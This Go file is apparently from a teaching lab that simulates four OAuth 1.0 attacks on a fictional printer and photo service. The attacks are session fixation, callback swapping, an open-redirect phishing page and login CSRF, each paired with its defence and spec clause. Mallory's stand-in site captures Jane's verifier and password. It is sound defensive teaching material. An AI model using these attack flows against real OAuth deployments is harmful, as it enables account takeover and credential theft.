package lab

import (
	"fmt"
	"net/http"
	"net/url"
)

// evilSite is Mallory's web site. It notes what comes by, and shows what she wants to be seen.
type evilSite struct {
	queries []url.Values
	forms   []url.Values
	page    string
}

func (e *evilSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if err := r.ParseForm(); err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	e.queries = append(e.queries, r.URL.Query())
	if r.Method == http.MethodPost {
		e.forms = append(e.forms, r.PostForm)
	}
	fmt.Fprint(w, e.page)
}

// caught is the last value of a query parameter that came by.
func (e *evilSite) caught(name string) string {
	for i := len(e.queries) - 1; i >= 0; i-- {
		if value := e.queries[i].Get(name); value != "" {
			return value
		}
	}
	return ""
}

func (s *stage) evilSite(page string) *evilSite {
	e := &evilSite{page: page}
	s.net.hosts[evilHost] = host{"Mallory’s web site", e}
	return e
}

// begins lets somebody press Connect at the printer and stop before photos, with the address in her hands.
func (s *stage) begins(p *person, path string) (authorize *url.URL) {
	p.stopAt = photosHost
	p.opens("http://" + printerHost + path)
	p.stopAt = ""
	return p.at
}

func withCallback(authorize *url.URL, callback string) string {
	u := *authorize
	q := u.Query()
	q.Set("oauth_callback", callback)
	u.RawQuery = q.Encode()
	return u.String()
}

var fixation = &Attack{
	ID: "fixation", Name: "Session fixation", Rule: "the verifier and the signed callback",
	Story:      "The hole of April 2009. Mallory presses Connect at the printer, stops, and sends the address of photos to Jane, with a callback that leads to a harmless page. Jane signs in and allows the printer, which she knows and trusts. Then Mallory finishes the dance that she began, and the printer shows her Jane’s album.",
	Defence:    "Who allows and who finishes must be the same person. photos makes a verifier when Jane allows and gives it to her browser alone; without it there is no Access Token. The callback is signed when the Request Token is asked for, so Mallory cannot lead it elsewhere.",
	Difference: "oauth_verifier", Clause: "OAuth Core 1.0a sections 6.2.3 and 6.3.1; Security Advisory 2009.1",
	weaken: func(r *Rules) { r.Verifier, r.SignedCallback = false, false },
	play: func(s *stage) {
		s.evilSite("Thank you.")
		s.net.remark("Mallory begins as any customer would. She does not follow the redirect, but keeps the address.")
		authorize := s.begins(s.mallory, "/connect")
		s.jane.signsIn()
		s.net.remark("Jane opens the address that Mallory has sent her. It is a real page of photos, about the real printer.")
		s.jane.opens(withCallback(authorize, "http://"+evilHost+"/thanks"))
		s.net.remark("Jane allows.")
		s.jane.presses("Allow")
		s.net.remark("Mallory comes back to the printer as if she were Jane. She has no verifier.")
		s.mallory.opens("http://" + printerHost + "/callback?oauth_token=" + authorize.Query().Get("oauth_token"))
		s.outcome(contains(s.mallory.page, janesPhoto), "The printer shows Mallory "+janesPhoto, "photos gives no Access Token without the verifier, and the verifier went to Jane’s browser.")
	},
}

var callbackSwap = &Attack{
	ID: "callback-swap", Name: "The callback is swapped", Rule: "a callback that is signed with the Request Token",
	Story:      "There is a verifier now, but the callback still stands in the address that the browser carries. Mallory changes it on the way: the verifier that was made for Jane is delivered to Mallory’s web site, and she finishes the dance with it.",
	Defence:    "The callback is one of the signed parameters of the request for the Request Token. What the address says later does not count.",
	Difference: "oauth_callback in the request for the Request Token", Clause: "OAuth Core 1.0a section 6.1.1",
	weaken: func(r *Rules) { r.SignedCallback = false },
	play: func(s *stage) {
		evil := s.evilSite("Thank you.")
		authorize := s.begins(s.mallory, "/connect")
		s.jane.signsIn()
		s.net.remark("The address that Jane is sent has another oauth_callback than the printer’s.")
		s.jane.opens(withCallback(authorize, "http://"+evilHost+"/catch")).presses("Allow")
		verifier := evil.caught("oauth_verifier")
		s.net.remark("Mallory tries to finish the dance that she began.")
		s.mallory.opens("http://" + printerHost + "/callback?" + url.Values{"oauth_token": {authorize.Query().Get("oauth_token")}, "oauth_verifier": {verifier}}.Encode())
		s.outcome(contains(s.mallory.page, janesPhoto), "Mallory’s site was sent the verifier, and the printer shows her "+janesPhoto, "The callback of the address is ignored: Jane went to the printer’s own, and Mallory’s site saw nothing.")
	},
}

var openRedirect = &Attack{
	ID: "open-redirect", Name: "photos as a signpost for thieves", Rule: "callbacks that are registered beforehand",
	Story:      "Mallory has registered an application of her own. She asks for a Request Token with a callback that looks like the sign-in page of photos, and sends Jane the address, which truly begins with photos’ name. Jane is careful and denies, and is sent to the forged page: “Your session has ended, sign in again.”",
	Defence:    "An application says where its callbacks are when it is registered, and is held to it.",
	Difference: "the list of callbacks in the registration", Clause: "RFC 5849 section 4.6; OAuth Core 1.0a section 11.8",
	weaken: func(r *Rules) { r.KnownCallbacks = false },
	play: func(s *stage) {
		const forged = "photos.example.net.signin.example"
		evil := s.evilSite("")
		evil.page = `photos: your session has ended, sign in again. <form method="post" action="/sign-in"><button>Sign in</button></form>`
		s.net.hosts[forged] = host{"the forged sign-in page", evil}
		frames := s.net.agent(&s.Rules, "Mallory’s application", framesKey, framesSecret, true)
		s.net.remark("The callback is not one that this application has registered.")
		t, err := frames.requestToken("http://" + forged + "/")
		if err != nil {
			s.stopped("photos does not know this callback, and gives no Request Token: %v.", err)
			return
		}
		s.jane.signsIn()
		s.jane.opens("http://" + photosHost + "/authorize?oauth_token=" + t.Token)
		s.net.remark("Jane denies. She is sent “back” all the same.")
		s.jane.presses("Deny")
		s.net.remark("She believes that she is still at photos.")
		s.jane.posts("http://"+forged+"/sign-in", "http://"+forged, url.Values{"user": {s.jane.user}, "password": {s.jane.password}})
		s.outcome(len(evil.forms) > 0 && evil.forms[0].Get("password") != "", "Mallory has Jane’s password.", "Nobody typed a password.")
	},
}

var loginCSRF = &Attack{
	ID: "login-csrf", Name: "Somebody else’s callback", Rule: "a callback that belongs to the browser session that began",
	Story:      "The other way round: Mallory allows the printer to see her own photos, stops before the callback, and has Jane’s browser open it. Now Jane’s account at the printer is connected to Mallory’s photos. What Jane sends there later, a caption, an address, arrives at Mallory’s.",
	Defence:    "The printer remembers in the browser session which Request Token it asked for, and takes a callback for no other.",
	Difference: "the Request Token in the session at the printer", Clause: "OAuth Core 1.0a section 11.14",
	weaken: func(r *Rules) { r.BoundCallback = false },
	play: func(s *stage) {
		authorize := s.begins(s.mallory, "/connect")
		s.mallory.signsIn()
		s.mallory.opens(authorize.String())
		s.net.remark("Mallory allows, and keeps the address of the callback instead of opening it.")
		s.mallory.stopAt = printerHost
		s.mallory.presses("Allow")
		s.net.remark("A hidden picture on some page makes Jane’s browser open Mallory’s callback.")
		s.jane.opens(s.mallory.at.String())
		s.net.remark("Later, Jane looks at the printer.")
		s.jane.opens("http://" + printerHost + "/")
		s.outcome(contains(s.jane.page, mallorysPhoto), "Jane’s printer is connected to Mallory’s photos, and Jane has pressed nothing.", "The printer did not begin this with Jane’s browser, and refuses.")
	},
}
